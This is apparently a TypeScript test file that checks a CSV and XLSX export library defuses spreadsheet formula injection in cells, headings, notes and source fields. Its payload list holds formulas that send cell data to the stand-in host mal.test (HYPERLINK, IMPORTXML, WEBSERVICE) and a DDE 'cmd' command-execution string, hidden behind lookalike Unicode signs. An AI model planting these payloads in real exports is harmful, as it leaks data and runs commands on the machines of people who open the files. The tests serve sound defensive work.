import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../src/lib/server/export/csv.ts';
import { column, gather, sample, texts } from '../../src/lib/server/export/fixture.ts';
import { OpenTable } from '../../src/lib/server/export/table-export.ts';
import { partsOf } from '../support/workbook.ts';
import { writeXlsx } from '../../src/lib/server/export/xlsx.ts';

const ATTACKS = [
  '1+1',
  'HYPERLINK("http://mal.test?f="&A1,"Ouvrir")',
  "cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://mal.test/",A1),"//a")',
  'WEBSERVICE("http://mal.test/"&A1)',
];

/** What a spreadsheet takes for the beginning of a formula, and what hides it. */
const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0+',
  '\ufeff=',
];

const PAYLOADS = [
  ...BEGINNINGS.flatMap((beginning) => ATTACKS.map((attack) => beginning + attack)),
  '=',
  '-',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '";=1+1;"',
  'a;=1+1',
  '"=1+1"',
  'a\r\n=1+1',
  '−1+1',
  '﹦1+1',
  '+33 6 12 34 56 78',
];

/** Read by no rule of ours: what a cell must not begin with once unquoted. */
const DANGEROUS = /^[\s\u00a0\u200b\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫−]|^[\t\r\n]/u;

describe('a text is never a formula', () => {
  it('sixty of them at least are tried', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(60));

  it.each(PAYLOADS)('%j in CSV', (payload) => {
    const text = [...writeCsv(texts([payload]))].join('');
    const rows = parse(text, { bom: true, delimiter: ';' }) as string[][];
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(rows[0]?.length ?? 0);
    const [cell = '', end] = rows[1] as [string, string];
    expect(cell).not.toMatch(DANGEROUS);
    expect([payload, `'${payload}`]).toContain(cell);
    expect(end).toBe('fin');
  });

  it('in XLSX: text cells all, no formula, and the text as it was', async () => {
    const workbook = await gather(writeXlsx(texts(PAYLOADS)));
    const sheet = (await partsOf(workbook)).get('xl/worksheets/sheet1.xml') ?? '';
    expect(sheet).not.toMatch(/<f[ >/]/);
    const cells = [...sheet.matchAll(/<c r="A(\d+)"([^>]*)>/g)];
    expect(cells).toHaveLength(PAYLOADS.length + 1);
    for (const [, , attributes] of cells) expect(attributes).toContain('t="inlineStr"');
    const rows = await readSheet(workbook, 'Données', { trim: false });
    expect(rows.slice(1).map(([text]) => text)).toEqual(PAYLOADS);
  });

  it.each(PAYLOADS)('%j as a heading, a title, a note', async (payload) => {
    const table = OpenTable.of(
      sample({ title: payload, notes: [payload], columns: [column('a', { label: payload }), column('b')] }),
    );
    const [heading = ''] =
      (parse([...writeCsv(table)].join(''), { bom: true, delimiter: ';' }) as string[][])[0] ?? [];
    expect(heading).not.toMatch(DANGEROUS);
    for (const [path, part] of await partsOf(await gather(writeXlsx(table)))) {
      if (path.startsWith('xl/worksheets/')) expect(part).not.toMatch(/<f[ >/]/);
    }
  });
});

it.each(PAYLOADS)('%j as what a table says of its source', (payload) => {
  const [source] = sample().sources;
  const told = { ...source!, producer: payload, edition: payload, licence: '' };
  const text = [...writeCsv(OpenTable.of(sample({ sources: [told] })))].join('');
  const rows = parse(text, { bom: true, delimiter: ';' }) as string[][];
  expect(rows[1]?.at(-2)).not.toMatch(DANGEROUS);
});

describe('a negative number stays a number', () => {
  const table = (): OpenTable =>
    OpenTable.of(
      sample({
        columns: [column('n', { kind: 'number' })],
        rows: () => [-12.75, -1e-7, -3].map((value, at) => ({ id: String(at), cells: [value] })),
      }),
    );

  it('in CSV', () => {
    const lines = [...writeCsv(table())].slice(1);
    expect(lines.map((line) => line.split(';')[0])).toEqual(['-12,75', '-0,0000001', '-3']);
  });

  it('in XLSX', async () => {
    const rows = await readSheet(await gather(writeXlsx(table())), 'Données');
    expect(rows.slice(1)).toEqual([[-12.75], [-1e-7], [-3]]);
  });
});
